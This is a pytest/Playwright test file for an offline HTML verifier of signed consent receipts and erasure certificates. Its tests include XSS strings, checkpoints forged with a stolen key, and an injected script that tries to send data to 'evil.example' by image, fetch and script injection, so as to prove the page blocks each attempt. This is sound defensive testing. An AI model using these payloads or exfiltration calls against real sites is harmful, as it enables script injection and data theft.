"""The verifier as one file, opened from disk with the network off: its verdicts are those of the Python verifiers."""

import json
import random
import re
import shutil
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

import pytest
from house import House
from patience import PATIENCE_S
from playwright.sync_api import Browser, Route
from signed_documents import (
    KINDS,
    check_receipt,
    house_with_documents,
    house_with_dossier,
    is_refused,
    large_log,
    newest_certificate,
    places_of,
    refusal_receipt,
    signed_documents,
    zipped,
)

from tests.pages.conftest import overflows, violations
from tests.pages.verifier_page import Verdict, VerifierPage
from tests.unit.erase.test_certificate import reissue, statement_of
from tests.vectors.build_vectors import FOLDER, VERIFIED
from volens.audit import Checkpoint, VerifierKey, sign_checkpoint
from volens.erase.order import verify_dossier
from volens.erase.proof import verify_certificate
from volens.service.cli.app import run

FLIPS = 40
MANIFEST = json.loads((FOLDER / "manifest.json").read_text("utf-8"))


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The verifier in each language, written by the command."""
    folder = tmp_path_factory.mktemp("verifier")
    for language in ("en", "fr", "de"):
        assert run(["verifier", "--out", str(folder / f"{language}.html"), "--language", language]) == 0
    return {path.stem: path for path in folder.iterdir()}


@pytest.fixture
def verifier(chromium: Browser, files: dict[str, Path]) -> Iterator[VerifierPage]:
    context = chromium.new_context(offline=True, locale="en-GB", timezone_id="Europe/Paris")
    context.set_default_timeout(PATIENCE_S * 1000)
    page = context.new_page()
    problems: list[str] = []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda message: problems.append(message.text))
    yield VerifierPage.opened(page, files["en"].as_uri())
    context.close()
    assert not problems


@pytest.fixture(scope="module")
def house(template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    house = house_with_documents(template, tmp_path_factory.mktemp("shown") / "home")
    yield house
    house.site.close()


@pytest.fixture(scope="module")
def dossier(template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[House, Path]]:
    house, folder = house_with_dossier(template, tmp_path_factory.mktemp("ordered") / "home")
    yield house, folder
    house.site.close()


def site_pub(house: House) -> bytes:
    return (house.site.home / "site.pub").read_bytes()


def states(verdicts: dict[str, Verdict]) -> dict[str, str]:
    return {name: one.state for name, one in verdicts.items()}


def test_the_receipts_of_the_test_vectors_get_the_verdict_of_the_python_verifier(verifier: VerifierPage) -> None:
    data = {name: (FOLDER / name).read_bytes() for name in MANIFEST["receipts"]}
    said = states(verifier.choose(data))
    assert {name: state == "valid" for name, state in said.items()} == {
        name: not is_refused(check_receipt, one) for name, one in data.items()
    }
    good = {name for name, one in MANIFEST["receipts"].items() if one["expected"] == VERIFIED}
    # One is of another person than the vectors' key, which a verifier without that key cannot know.
    assert {name for name, state in said.items() if state == "valid"} == good | {"receipt_of_another_subject.txt"}


def test_the_signatures_of_the_test_vectors_get_the_verdict_of_the_python_verifier(verifier: VerifierPage) -> None:
    vectors = json.loads((FOLDER / "signature_vectors.json").read_text("utf-8"))["vectors"]
    said = verifier.choose({one["name"]: one["receipt"].encode() for one in vectors})
    assert {name: one.state == "valid" for name, one in said.items()} == {
        one["name"]: one["expected"] == VERIFIED for one in vectors
    }
    for name, words in (
        ("passkey_es256", "with a passkey of the person"),
        ("person_key", "with a key of the person"),
        ("desk", "the operator of the desk could have signed"),
        ("passkey_wrong_origin", "The passkey signed for another web site than the receipt names."),
        ("passkey_not_verified", "did not check that its owner was there"),
        ("passkey_wrong_challenge", "signed another text than this receipt"),
        ("passkey_raw_numbers", "The signature does not match"),
    ):
        assert words in said[name].text


def test_the_worked_example_is_valid_and_the_certificate_is_about_the_receipt(verifier: VerifierPage) -> None:
    names = ("worked_site.pub", "worked_certificate.json", "worked_log.jsonl", "receipt_good.txt")
    said = verifier.choose({name: (FOLDER / name).read_bytes() for name in names})
    assert states(said) == dict.fromkeys(names[1:], "valid")
    assert "This certificate is about the consent in receipt_good.txt." in said["worked_certificate.json"].text
    assert "its data was erased: see worked_certificate.json" in said["receipt_good.txt"].text
    assert "1 April 2099 at 10:00:01 CEST (08:00:01 UTC)" in said["worked_certificate.json"].text
    assert verifier.status() == "Checked: 3 of 3 valid"


def test_a_certificate_of_an_older_version_is_valid(verifier: VerifierPage) -> None:
    said = verifier.choose(
        {name: (FOLDER / name).read_bytes() for name in ("certificate_v1.pub", "certificate_v1.json")}
    )
    assert states(said) == {"certificate_v1.json": "valid"}


def test_what_a_site_signs_is_valid_and_nothing_is_checked_without_its_key(
    verifier: VerifierPage, house: House
) -> None:
    documents = {kind: data for kind, (data, _) in signed_documents(house).items()}
    more = {"policy": house.site.clocks.signed_policy(), "take-home": house.people[-1].take_home.to_json()}
    more["refusal"], _ = refusal_receipt(house)
    before = states(verifier.choose(documents | more))
    assert before.pop("receipt") == before.pop("take-home") == "valid"
    assert set(before.values()) == {"no-key"}
    after = verifier.choose({"site.pub": site_pub(house)})
    assert set(states(after).values()) == {"valid"}
    assert {*KINDS, *more} == set(after)
    assert "Badge office" in after["certificate"].text


@pytest.mark.parametrize("kind", [*KINDS, "refusal"])
def test_a_document_of_which_one_bit_was_changed_or_that_was_cut_off_is_refused(
    verifier: VerifierPage, house: House, kind: str
) -> None:
    data, ours = (signed_documents(house) | {"refusal": refusal_receipt(house)})[kind]
    bits = random.Random(19)
    places = bits.sample(places_of(kind, data), FLIPS)
    changed = {
        f"flip {place}": data[:place] + bytes([data[place] ^ 1 << bits.randrange(7)]) + data[place + 1 :]
        for place in places
    }
    changed |= {f"cut {end}": data[:end] for end in (1, len(data) // 3, len(data) // 2, len(data) - 1)}
    changed = {name: one for name, one in changed.items() if one.strip() != data.strip()}
    said = verifier.choose({"site.pub": site_pub(house)} | changed)
    for name, one in changed.items():
        assert (said[name].state == "valid") == (not is_refused(ours, one)), (name, said[name].text)
        assert said[name].state != "valid"
        assert not re.search(r"Error|undefined|\bproblem_|\[object", said[name].text)


@pytest.mark.parametrize(
    "lie",
    [
        {"kind": "zone.added"},
        {"details": lambda said: {"certificate_id": said["certificate_id"], "statement_sha256": "0" * 64}},
        {"payload": lambda payload: b" " + payload},
        {"typ": "volens-access-answer+jws"},
    ],
)
def test_a_certificate_that_the_site_itself_signed_wrongly_is_refused(
    verifier: VerifierPage, house: House, lie: dict[str, object]
) -> None:
    wrong = reissue(house, statement_of(newest_certificate(house)), **lie)  # type: ignore[arg-type]  # one of its options
    assert is_refused(lambda data: verify_certificate(data, house.site.verifier_key), wrong)
    said = verifier.choose({"site.pub": site_pub(house), "certificate.json": wrong})
    assert states(said) == {"certificate.json": "invalid"}


def test_a_certificate_of_an_erasure_that_left_something_is_refused(verifier: VerifierPage, house: House) -> None:
    statement = statement_of(newest_certificate(house))
    found = [*statement["searched"], {"what": "name", "pieces": 1, "found": 1}]
    wrong = reissue(house, statement | {"searched": found})
    said = verifier.choose({"site.pub": site_pub(house), "certificate.json": wrong})
    assert "It states an erasure that left something behind." in said["certificate.json"].text


def test_a_certificate_that_contradicts_the_receipt_that_it_names_is_refused(
    verifier: VerifierPage, house: House
) -> None:
    person, statement = house.people[-1], statement_of(newest_certificate(house))
    token = person.take_home.receipt.token
    other = statement | {"receipt_sha256": sha256(token.encode()).hexdigest(), "zone": "laboratory"}
    files = {"site.pub": site_pub(house), "c.json": reissue(house, other), "receipt.txt": token.encode()}
    assert states(verifier.choose(files)) == {"c.json": "invalid", "receipt.txt": "valid"}


def test_a_receipt_beside_a_certificate_of_another_person_is_told_apart(verifier: VerifierPage, house: House) -> None:
    files = {"site.pub": site_pub(house), "c.json": newest_certificate(house)}
    said = verifier.choose(files | {"r.json": house.people[-1].take_home.to_json()})
    assert "This certificate is about another consent than the one in r.json." in said["c.json"].text
    assert "None of these certificates is about this receipt." in said["r.json"].text


def test_what_another_site_signed_names_both_keys(verifier: VerifierPage, house: House) -> None:
    documents = {kind: data for kind, (data, _) in signed_documents(house).items() if kind != "receipt"}
    said = verifier.choose({"site.pub": (FOLDER / "worked_site.pub").read_bytes()} | documents)
    assert set(states(said).values()) == {"wrong-key"}
    for one in said.values():
        assert "volens/site-5c1e (key e769623e)" in one.text
        assert house.site.verifier_key.name in one.text


def test_a_dossier_is_valid_as_a_folder_and_as_a_zip(verifier: VerifierPage, dossier: tuple[House, Path]) -> None:
    house, folder = dossier
    verifier.choose({"site.pub": site_pub(house)})
    for said in (verifier.choose_folder(folder), verifier.choose({"d.zip": zipped(folder, "order/")})):
        assert set(states(said).values()) == {"valid"}
    receipt = house.people[0].take_home.to_json()
    said = verifier.choose({"r.json": receipt})
    assert "This dossier has the certificate of the consent in r.json." in said["d.zip"].text


def test_a_dossier_in_which_any_file_was_changed_or_is_missing_is_refused(
    verifier: VerifierPage, dossier: tuple[House, Path], tmp_path: Path
) -> None:
    house, folder = dossier
    bits = random.Random(19)
    changed: dict[str, bytes] = {}
    copy = tmp_path / "copy"
    shutil.copytree(folder, copy)
    for path in sorted(one for one in copy.rglob("*") if one.is_file()):
        data, name = path.read_bytes(), path.relative_to(copy).as_posix().replace("/", " ")
        place = bits.randrange(len(data))
        path.write_bytes(data[:place] + bytes([data[place] ^ 1]) + data[place + 1 :])
        assert is_refused(lambda _: verify_dossier(copy, house.site.verifier_key), b"")
        changed[f"changed {name}"] = zipped(copy)
        path.unlink()
        if name != "manifest.sig.json":
            changed[f"without {name}"] = zipped(copy)
        path.write_bytes(data)
    said = verifier.choose({"site.pub": site_pub(house)} | changed)
    assert set(states(said).values()) == {"invalid"}
    assert len(said) > 16


def test_a_log_must_continue_the_checkpoint_that_the_visitor_kept(
    verifier: VerifierPage, template: Path, tmp_path: Path
) -> None:
    house = House.copied(template, tmp_path / "home")
    old = b"".join(house.site.log.export())
    house.admit()
    kept, new = house.site.log.checkpoint().encode(), b"".join(house.site.log.export())
    size = int(kept.split(b"\n")[1])
    thief = house.store.keyring.unlocked.site.signing
    other = sign_checkpoint(Checkpoint(house.site.verifier_key.name, size, bytes(32)), thief).encode()
    verifier.choose({"site.pub": site_pub(house)})
    house.site.close()
    for log, note, state, words in (
        (new, kept, "valid", "the log continues the logs that the other documents show"),
        (old, kept, "invalid", "The log is older than another document here"),
        (new, other, "invalid", "The log is not the one that another document here shows."),
    ):
        said = verifier.choose({"log.jsonl": log, "kept.txt": note})
        assert said["log.jsonl"].state == state
        assert words in said["log.jsonl"].text
        verifier.start_again()


def test_after_rotations_a_document_of_each_key_is_valid_and_a_replaced_key_signs_no_more(
    verifier: VerifierPage, template: Path, tmp_path: Path
) -> None:
    house = House.copied(template, tmp_path / "home")
    thief = house.store.keyring.unlocked.site.signing
    first = site_pub(house)
    files = {}
    for number in range(3):
        files[f"c{number}.json"] = house.withdraw(house.admit()).certificate_path.read_bytes()
        house.site.keys.rotate(signing=True)
    house.invite()
    late = sign_checkpoint(Checkpoint(house.site.verifier_key.name, house.site.log.verify().size, bytes(32)), thief)
    newest = site_pub(house)
    house.site.close()
    assert set(states(verifier.choose({"site.pub": newest} | files)).values()) == {"valid"}
    assert states(verifier.choose({"late.txt": late.encode()}))["late.txt"] == "invalid"
    assert "number of later keys, each introduced by the one before: 3" in verifier.page.inner_text("#verify-key")
    verifier.choose({"site.pub": first})
    verifier.start_again()
    said = states(verifier.choose({"site.pub": first} | files))
    assert said == {"c0.json": "valid", "c1.json": "wrong-key", "c2.json": "wrong-key"}
    verifier.start_again()
    lines = newest.decode().splitlines()
    verifier.choose({"site.pub": "\n".join([lines[0], lines[2]]).encode()})
    assert "does not introduce the site" in verifier.status()
    assert VerifierKey.parse(first.decode()).key_id.hex() in verifier.page.inner_text("#verify-key-id")


def test_files_that_are_no_documents_get_one_sentence(verifier: VerifierPage) -> None:
    files = {
        "empty": (b"", "none of the documents"),
        "picture": (b"\x89PNG\r\n\x1a\n\0\0", "none of the documents"),
        "json": (b'{"a": 1}', "none of the documents"),
        "list": (b"{" * 10_000, "not complete JSON"),
        "twice": (b'{"receipt": "a", "receipt": "b"}', "not complete JSON"),
        "zip": (b"PK\x03\x04" + bytes(100), "zip is damaged"),
        "part": ((FOLDER / "worked_certificate.json").read_bytes().replace(b"certificate", b"dossier", 1), "one file"),
        "markup": (b"<img src=x onerror=alert(1)>", "none of the documents"),
    }
    said = verifier.choose({name: data for name, (data, _) in files.items()})
    for name, (_, words) in files.items():
        assert words in said[name].text, name
        assert said[name].state == "unknown"


def test_a_name_with_markup_is_shown_as_text(verifier: VerifierPage, house: House) -> None:
    marked = statement_of(newest_certificate(house)) | {"controller": "<b onclick=alert(1)>Evil</b>{file}"}
    said = verifier.choose({"site.pub": site_pub(house), "<i>c</i>.json": reissue(house, marked)})
    assert "<b onclick=alert(1)>Evil</b>{file}" in said["<i>c</i>.json"].text


def test_a_log_of_100_000_entries_is_read_in_pieces_while_the_page_answers(
    verifier: VerifierPage, tmp_path: Path
) -> None:
    path = tmp_path / "log.jsonl"
    site = large_log(path, 100_000)
    verifier.choose({"site.pub": site})
    verifier.page.evaluate(
        "() => { window.ticks = 0; window.shares = new Set(); setInterval(() => { window.ticks += 1; "
        "window.shares.add(document.getElementById('verify-progress').value) }, 20) }"
    )
    verifier.page.set_input_files("#verify-files", path)
    verifier.page.wait_for_selector("#verify-verdicts[data-checks='2']", state="attached")
    assert verifier.page.get_attribute("#verify-verdicts article", "data-state") == "valid"
    assert "100,000" in verifier.page.inner_text("#verify-verdicts")
    assert verifier.page.evaluate("window.shares.size") > 5


@pytest.mark.parametrize("language", ["en", "fr", "de"])
def test_the_file_needs_nothing_else_and_is_accessible(
    chromium: Browser, files: dict[str, Path], language: str, tmp_path: Path
) -> None:
    text = files[language].read_text("utf-8")
    assert not re.search(r"(src|href)\s*=\s*[\"'](?!#)|@import|url\(|https?://", text.split("<script", 1)[0])
    assert "unsafe" not in text
    for scheme, width in (("light", 320), ("dark", 900)):
        context = chromium.new_context(
            offline=True, viewport={"width": width, "height": 800}, color_scheme=scheme, reduced_motion="reduce"
        )
        page = context.new_page()
        verifier = VerifierPage.opened(page, files[language].as_uri())
        names = ("worked_site.pub", "worked_certificate.json", "receipt_good.txt", "receipt_signature_flipped.txt")
        said = verifier.choose({name: (FOLDER / name).read_bytes() for name in names})
        assert [one.state for one in said.values()] == ["valid", "valid", "invalid"]
        for one in said.values():
            assert not re.search(r"\b(term|check|kind|state|heading|proves|limit|result|reason|form)_", one.text)
        assert page.locator("html").get_attribute("lang") == language
        assert not overflows(page)
        assert not violations(page)
        page.screenshot(path=tmp_path / f"verifier-{language}-{scheme}.png", full_page=True)
        context.close()


def test_files_that_are_dropped_anywhere_on_the_page_are_checked(verifier: VerifierPage) -> None:
    verifier.page.evaluate(
        """([name, text]) => {
          const data = new DataTransfer();
          data.items.add(new File([text], name));
          data.items.add("some text", "text/plain");
          document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
        }""",
        ["dropped.txt", (FOLDER / "receipt_good.txt").read_text("ascii")],
    )
    verifier.page.wait_for_selector("#verify-verdicts article[data-state=valid]")
    assert verifier.page.inner_text("#verify-verdicts .file") == "dropped.txt"


def test_a_file_that_vanished_is_named_unreadable_and_the_page_goes_on(verifier: VerifierPage, tmp_path: Path) -> None:
    path = tmp_path / "gone.txt"
    path.write_bytes((FOLDER / "receipt_good.txt").read_bytes())
    verifier.page.set_input_files("#verify-files", path)
    verifier.page.wait_for_selector("#verify-verdicts article[data-state=valid]")
    path.write_bytes(b"another text")
    verifier.page.set_input_files("#verify-files", FOLDER / "receipt_good_us_il.txt")
    verifier.page.wait_for_selector("#verify-status:has-text('could not be read')")
    assert {one.state for one in verifier.choose({"r": (FOLDER / "receipt_good.txt").read_bytes()}).values()} == {
        "valid"
    }


def test_the_keyboard_alone_chooses_files(verifier: VerifierPage) -> None:
    verifier.page.keyboard.press("Tab")
    assert verifier.page.evaluate("document.activeElement.id") == "verify-files"
    with verifier.page.expect_file_chooser() as chooser:
        verifier.page.keyboard.press("Space")
    chooser.value.set_files(FOLDER / "receipt_good.txt")
    verifier.page.wait_for_selector("#verify-verdicts article[data-state=valid]")
    assert verifier.page.evaluate("document.activeElement.dataset.kind") == "receipt"


def test_the_file_cannot_send_what_it_reads(chromium: Browser, files: dict[str, Path]) -> None:
    context = chromium.new_context()
    page = context.new_page()
    sent: list[str] = []

    def answer(route: Route) -> None:
        sent.append(route.request.url)
        route.fulfill(status=200, headers={"Access-Control-Allow-Origin": "*"}, body="thank you")

    VerifierPage.opened(page, files["en"].as_uri())
    page.route("**/*", answer)
    tried = page.evaluate(
        """async () => {
          const image = new Image();
          const shown = new Promise((done) => { image.onload = () => done("sent"); image.onerror = () => done("no"); });
          image.src = "https://evil.example/?stolen";
          const script = document.createElement("script");
          try { script.textContent = "globalThis.wasRun = true"; document.body.append(script); } catch { /* refused */ }
          const fetched = await fetch("https://evil.example/").then(() => "sent", () => "no");
          return [await shown, fetched, globalThis.wasRun === undefined ? "no" : "sent"];
        }"""
    )
    assert tried == ["no", "no", "no"]
    assert not sent
    context.close()
